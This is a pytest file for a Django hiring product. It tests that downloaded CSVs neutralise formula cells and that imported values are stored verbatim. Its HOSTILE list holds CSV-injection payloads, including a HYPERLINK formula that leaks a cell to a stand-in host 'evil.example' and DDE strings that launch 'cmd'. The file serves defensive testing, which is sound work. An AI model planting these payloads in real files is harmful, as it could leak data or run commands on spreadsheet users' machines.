"""Every CSV the product writes is safe to open in a spreadsheet: a cell that would start a
formula (=, +, -, @, tab, carriage return) is written with a leading single quote. What an
import stores stays exactly what the file held."""

import csv
import io
from typing import Any

import pytest
from django.urls import reverse
from django_tenants.utils import schema_context

from hiring.models import ImportJob, Submission
from hiring.services.import_files import COLUMNS
from pages.downloads import csv_download
from tests.test_imports import _open_brief, csv_bytes, post_upload, row, run

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open CV")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(response: Any) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def test_the_csv_writer_neutralises_formula_cells_and_keeps_the_rest():
    response = csv_download(
        [["header", "=header"], *[[value, "plain"] for value in HOSTILE], [-5, 7.5]],
        "x.csv",
    )
    cells = _cells(response)
    assert cells[0] == ["header", "'=header"]
    assert [line[0] for line in cells[1 : 1 + len(HOSTILE)]] == ["'" + v for v in HOSTILE]
    assert all(line[1] == "plain" for line in cells[1:-1])
    # Numbers stay numbers, phone numbers stay as typed, text that merely contains = stays.
    assert cells[-1] == ["-5", "7.5"]
    plain = [["a = b", "x@y.example", "+44 20 7946 0000", "-12.5", "(0)20 7946"]]
    assert _cells(csv_download(plain, "y.csv")) == plain


@pytest.fixture
def web(tenant_a: Any, as_role: Any) -> dict[str, Any]:
    recruiter = as_role(tenant_a, "recruiter")
    with schema_context(tenant_a.schema_name):
        brief = _open_brief()
    return {"recruiter": recruiter, "brief": brief, "tenant": tenant_a}


@pytest.mark.django_db
def test_a_hostile_import_is_stored_verbatim_and_its_problem_report_is_neutralised(web):
    recruiter, brief = web["recruiter"], web["brief"]
    rows = [
        row(brief, 1, full_name=HOSTILE[0]),
        row(brief, 2, email="=1+1", full_name="@Not Imported"),
    ]
    assert post_upload(recruiter, csv_bytes(rows)).status_code == 302
    with schema_context(web["tenant"].schema_name):
        job = run(ImportJob.objects.get())
        assert (job.done_rows, job.failed_rows) == (1, 1), job.errors
        stored = Submission.objects.select_related("candidate").get()
        assert stored.candidate.full_name == HOSTILE[0]
        # Whatever a problem line holds (a future message may quote a column or a value),
        # the report a person downloads cannot run it.
        job.errors = [*job.errors, {"row": 9, "field": "@column", "message": HOSTILE[1]}]
        job.save(update_fields=["errors"])
    report = recruiter.http.get(reverse("imports:problems", args=[job.public_id]))
    assert report.status_code == 200
    cells = _cells(report)
    assert cells[0] == ["row", "column", "problem"]
    assert ["9", "'@column", "'" + HOSTILE[1]] in cells
    for line in cells:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in line), line


@pytest.mark.django_db
def test_the_import_template_keeps_its_phone_number_as_typed(web):
    response = web["recruiter"].http.get(reverse("imports:template"))
    header, example = _cells(response)
    assert header == list(COLUMNS)
    assert dict(zip(header, example, strict=True))["phone"].startswith("+")
